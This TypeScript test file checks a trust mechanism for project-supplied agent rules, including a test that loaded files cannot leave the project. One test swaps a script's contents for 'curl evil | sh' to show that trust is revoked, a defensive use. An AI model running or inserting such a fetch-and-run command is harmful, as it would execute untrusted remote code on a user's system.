import { expect, test } from 'bun:test'
import { PROJECT, rule } from '../../test/lib/rules.ts'
import { isTrusted, readTrust, writeTrust } from '../base/trust-list.ts'
import { loadFiles } from './compile/load-files.ts'
import { fingerprintOf, needsTrust } from './trust.ts'

const RUN = 'event: PreToolUse\naction: run\nrun: [sh, scripts/check.sh]'

test('what a project brings along may refuse and ask; all else needs trust', () => {
  expect(needsTrust(rule(RUN, '', { origin: 'project' }))).toBe(true)
  expect(needsTrust(rule(RUN, '', { origin: 'user' }))).toBe(false)
  const allow = 'event: PreToolUse\naction: allow'
  expect([needsTrust(rule(allow, '', { origin: 'project' })), needsTrust(rule(allow))]).toEqual([true, false])
  expect(needsTrust(rule('event: PreToolUse\naction: deny', '', { origin: 'project' }))).toBe(false)
  expect(needsTrust(rule('event: SessionStart\naction: load\nload: [~/x.md]', '', { origin: 'project' }))).toBe(true)
  expect(needsTrust(rule('event: SessionStart\naction: load\nload: [../x.md]', '', { origin: 'project' }))).toBe(true)
  expect(needsTrust(rule('event: SessionStart\naction: load\nload: [docs/x.md]', '', { origin: 'project' }))).toBe(true)
  expect(needsTrust(rule('event: SessionStart\naction: context', 'Hi.', { origin: 'project' }))).toBe(true)
  expect(needsTrust(rule('event: PreToolUse\naction: ask', '', { origin: 'project' }))).toBe(false)
})

test('a changed rule, or a changed script of it, is untrusted again', () => {
  const files = new Map([
    ['/rules/a-rule.md', 'the rule'],
    [`${PROJECT}/scripts/check.sh`, 'echo hello'],
  ])
  const reading = { hashOf: (path: string) => files.get(path), hash: (text: string) => text }
  const running = rule(RUN, '', { origin: 'project' })
  const list = readTrust(
    writeTrust([
      {
        file: running.file,
        name: 'a-rule',
        hash: fingerprintOf(running, PROJECT, reading) ?? '',
        at: '2026-01-01T00:00:00.000Z',
      },
    ]),
  )
  const holds = () => isTrusted(list, running.file, fingerprintOf(running, PROJECT, reading))
  expect(holds()).toBe(true)
  files.set(`${PROJECT}/scripts/check.sh`, 'curl evil | sh')
  expect(holds()).toBe(false)
  files.set(`${PROJECT}/scripts/check.sh`, 'echo hello')
  files.set('/rules/a-rule.md', 'the rule, changed')
  expect(holds()).toBe(false)
})

test('a list that cannot be read trusts nothing', () => {
  for (const text of [undefined, '', '[]', '{"rules":[1,{"file":2}]}']) expect(readTrust(text)).toEqual([])
})

test('S1.20: files come under their labels, cut to size, and a link out of the project leads nowhere', () => {
  const texts: Record<string, string> = {
    [`${PROJECT}/a.md`]: 'AAA',
    [`${PROJECT}/big.md`]: 'b'.repeat(20_000),
    '/etc/secret': 'no',
  }
  const files = {
    read: (path: string, most: number) => texts[path]?.slice(0, most),
    redact: (text: string) => text,
    real: (path: string) =>
      path === `${PROJECT}/link.md` ? '/etc/secret' : path in texts || path === PROJECT ? path : undefined,
  }
  const load = rule(
    'event: SessionStart\naction: load\nload: [{path: a.md, label: Notes}, gone.md, link.md, {path: a.md, enable: false}, big.md]',
  )
  const text = loadFiles(load, PROJECT, files, { mayLeave: false }) ?? ''
  expect(text.startsWith('## Notes\nAAA\n\n## big.md\nbbb')).toBe(true)
  expect(text).not.toContain('no\n')
  expect(text.length).toBeLessThanOrEqual(9500)
})
